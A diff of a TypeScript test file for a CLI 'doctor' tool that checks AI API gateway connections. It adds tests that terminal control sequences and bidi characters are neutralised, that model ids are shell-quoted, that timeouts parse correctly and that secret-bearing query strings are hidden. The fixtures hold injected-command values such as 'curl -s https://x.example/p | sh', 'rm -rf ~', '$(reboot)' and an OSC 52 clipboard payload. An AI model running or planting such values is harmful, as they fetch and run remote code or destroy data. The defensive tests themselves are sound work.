@@ -2,7 +2,7 @@
 // exercised as a child process in test/integration/doctor.test.ts.
 import { strict as assert } from 'node:assert';
 import { parseArgs } from '../../src/cli/args';
-import { renderHuman, toJson } from '../../src/cli/format';
+import { renderHuman, renderJson, toJson } from '../../src/cli/format';
 import type { VerificationResult } from '../../src/core/types';
 
 function result(partial: Partial<VerificationResult> = {}): VerificationResult {
@@ -152,5 +152,114 @@ describe('doctor: output', () => {
     const ok = renderHuman(result(), { model: 'gpt-4o-mini' }).split('\n').find((l) => l.includes('GET  /models')) as string;
     assert.equal(column(ok, /\d+ ms/) + String(12).length, column(rows[0], /\d+ ms/) + String(2001).length, 'latency column');
     assert.equal(column(ok, /(GET|POST) /), column(rows[1], /(GET|POST) /));
+  });
+});
+
+// Hostile text a gateway may send: clear screen, OSC 52 clipboard write, a carriage return that
+// overwrites the line, CSI as a C1 control, a right-to-left override, a zero-width space, DEL.
+const HOSTILE = '\x1b[2J\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\r✓ Connected\u009b31m\u202egnp.exe\u200b\x7f';
+/** Any raw control (other than the newline between lines), C1, DEL, bidi or zero-width character. */
+const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]/;
+
+describe('doctor: text from the network is inert in the terminal', () => {
+  const hostile = (): VerificationResult =>
+    result({
+      ok: false,
+      model: `m${HOSTILE}`,
+      baseUrl: { input: `https://api.rutaapi.com/v1${HOSTILE}`, normalized: null, findings: [{ code: 'unparseable', severity: 'error', message: `Bad ${HOSTILE}` }], asEntered: false },
+      key: { cleaned: 'sk-secret-should-not-show-1234', redacted: 'sk-se…1234', findings: [{ code: 'non_ascii', severity: 'warning', message: `Key ${HOSTILE}` }] },
+      steps: [
+        { name: 'models', ok: true, status: 200, requestId: `req${HOSTILE}`, latencyMs: 3, code: 'ok', modelCount: 2 },
+        { name: 'chat', ok: true, status: 200, requestId: `req2${HOSTILE}`, latencyMs: 4, code: 'ok', replyExcerpt: `Hi${HOSTILE}` },
+      ],
+      models: [`id${HOSTILE}`, 'plain-id'],
+      diagnosis: {
+        code: 'html_response', severity: 'error', title: `HTML page ("${HOSTILE}")`, detail: `The server says: "${HOSTILE}"`,
+        fixes: [{ kind: 'pick_model', label: `Use ${HOSTILE}`, value: `v${HOSTILE}` }],
+        evidence: { status: 400, requestId: `req${HOSTILE}`, errorCode: `code${HOSTILE}`, errorType: `type${HOSTILE}`, errorMessage: `msg${HOSTILE}`, url: `https://x.test/v1${HOSTILE}`, location: `https://y.test/${HOSTILE}`, networkCode: `E${HOSTILE}`, contentType: `text/html${HOSTILE}` },
+        short: 'HTML',
+      },
+    });
+
+  it('human: no raw control, C1, DEL, bidi or zero-width character reaches the terminal; the escapes are visible', () => {
+    for (const options of [{}, { model: `m${HOSTILE}` }]) {
+      const text = renderHuman(hostile(), options);
+      assert.doesNotMatch(text, RAW_CONTROL, JSON.stringify(text));
+      assert.ok(text.includes('\\x1b[2J'), 'the ESC is shown as a visible escape');
+      assert.ok(text.includes('\\u202e'), 'the bidi override is shown as a visible escape');
+    }
+    // A passing result with the same hostile fields (reply, request ids, model list, title/detail).
+    const ok = renderHuman({ ...hostile(), ok: true, diagnosis: { ...hostile().diagnosis, code: 'ok', severity: 'info' } });
+    assert.doesNotMatch(ok, RAW_CONTROL, JSON.stringify(ok));
+  });
+
+  it('--json: C1, DEL, bidi and zero-width characters are \\u escapes in the bytes, the parsed values are unchanged', () => {
+    const text = renderJson(hostile());
+    assert.doesNotMatch(text.replace(/\n/g, ''), RAW_CONTROL, text);
+    assert.match(text, /\\u009b/);
+    assert.match(text, /\\u202e/);
+    assert.match(text, /\\u200b/);
+    assert.match(text, /\\u007f/);
+    const parsed = JSON.parse(text) as ReturnType<typeof toJson>;
+    assert.deepEqual(parsed.models, hostile().models);
+    assert.equal(parsed.diagnosis.detail, hostile().diagnosis.detail);
+    assert.equal(parsed.steps[0]!.requestId, `req${HOSTILE}`);
+    assert.deepEqual(parsed, JSON.parse(JSON.stringify(toJson(hostile()))));
+    assert.ok(text.includes('✓ Connected'), 'ordinary non-ASCII stays as it is');
+  });
+
+  it('the suggested command line shell-quotes the model id and the Base URL', () => {
+    const evil = 'gpt-4o; curl -s https://x.example/p | sh #';
+    const text = renderHuman(result({ models: [evil, 'gpt-4o-mini'] }));
+    const line = text.split('\n').find((l) => l.includes('npm run doctor --')) as string;
+    assert.equal(line, `  npm run doctor -- check --base-url https://api.rutaapi.com/v1 --model 'gpt-4o; curl -s https://x.example/p | sh #'`);
+    const quoteInId = renderHuman(result({ models: ["it's; rm -rf ~"] })).split('\n').find((l) => l.includes('npm run doctor --')) as string;
+    assert.ok(quoteInId.endsWith(`--model 'it'\\''s; rm -rf ~'`), quoteInId);
+    const odd = renderHuman(result({ baseUrl: { ...result().baseUrl, normalized: 'https://h.test/v1/$(reboot)' } }));
+    assert.match(odd, /--base-url 'https:\/\/h\.test\/v1\/\$\(reboot\)' --model gpt-4o-mini$/m);
+  });
+
+  it('the suggested command line skips ids that cannot be one safe word, and is left out when none can', () => {
+    const skipped = renderHuman(result({ models: [`bad${HOSTILE}`, 'gpt-4o-mini'] }));
+    assert.match(skipped, /--model gpt-4o-mini$/m);
+    const none = renderHuman(result({ models: [`bad${HOSTILE}`, 'x\u202ey'] }));
+    assert.doesNotMatch(none, /npm run doctor/);
+    assert.doesNotMatch(none, RAW_CONTROL);
+  });
+});
+
+describe('doctor: --timeout', () => {
+  it('rounds a positive value below one millisecond up to 1 ms (never 0, which meant the 15 s default)', () => {
+    assert.deepEqual(parseArgs(['check', '--timeout', '0.0001']), { command: 'check', baseUrl: 'https://api.rutaapi.com/v1', timeoutMs: 1, json: false, keyStdin: false });
+    assert.equal((parseArgs(['check', '--timeout', '0.0004']) as { timeoutMs: number }).timeoutMs, 1);
+    assert.equal((parseArgs(['check', '--timeout=0.001']) as { timeoutMs: number }).timeoutMs, 1);
+    assert.equal((parseArgs(['check', '--timeout', '0.5']) as { timeoutMs: number }).timeoutMs, 500);
+  });
+  it('rejects zero, negative, non-finite and non-numeric values with a clear message', () => {
+    for (const bad of ['0', '0.0', '0.0000', '-1', 'NaN', 'Infinity', '1e309', '', ' ', 'abc', '601']) {
+      const parsed = parseArgs(['check', '--timeout', bad]);
+      assert.equal(parsed.command, 'usage_error', JSON.stringify(bad));
+      assert.match((parsed as { message: string }).message, /--timeout needs a number of seconds greater than 0/);
+    }
+  });
+});
+
+describe('doctor: the Base URL as entered is echoed without its query or fragment', () => {
+  const withInput = (input: string, normalized: string | null): VerificationResult =>
+    result({ baseUrl: { input, normalized, findings: [{ code: 'query_or_fragment', severity: 'warning', message: 'Removed the part after "?" or "#".' }], asEntered: false } });
+
+  it('--json baseUrl.input drops ?query and #fragment and says so', () => {
+    assert.equal(toJson(withInput('https://api.rutaapi.com/v1?pass=hunter2', 'https://api.rutaapi.com/v1')).baseUrl.input, 'https://api.rutaapi.com/v1 (query removed)');
+    assert.equal(toJson(withInput('https://api.rutaapi.com/v1#tok=hunter2', 'https://api.rutaapi.com/v1')).baseUrl.input, 'https://api.rutaapi.com/v1 (fragment removed)');
+    assert.equal(toJson(withInput('https://api.rutaapi.com/v1?pass=hunter2#x', 'https://api.rutaapi.com/v1')).baseUrl.input, 'https://api.rutaapi.com/v1 (query and fragment removed)');
+    const text = renderJson(withInput('https://api.rutaapi.com/v1?pass=hunter2', 'https://api.rutaapi.com/v1'));
+    assert.ok(!text.includes('hunter2'), text);
+  });
+
+  it('human: the Base URL line never shows the query, also when the input could not be normalised', () => {
+    const text = renderHuman(withInput('not a url?pass=hunter2', null));
+    assert.ok(!text.includes('hunter2'), text);
+    assert.match(text, /^ {2}Base URL {2}not a url \(query removed\)$/m);
+    assert.ok(!renderHuman(withInput('https://api.rutaapi.com/v1?pass=hunter2', 'https://api.rutaapi.com/v1')).includes('hunter2'));
   });
 });
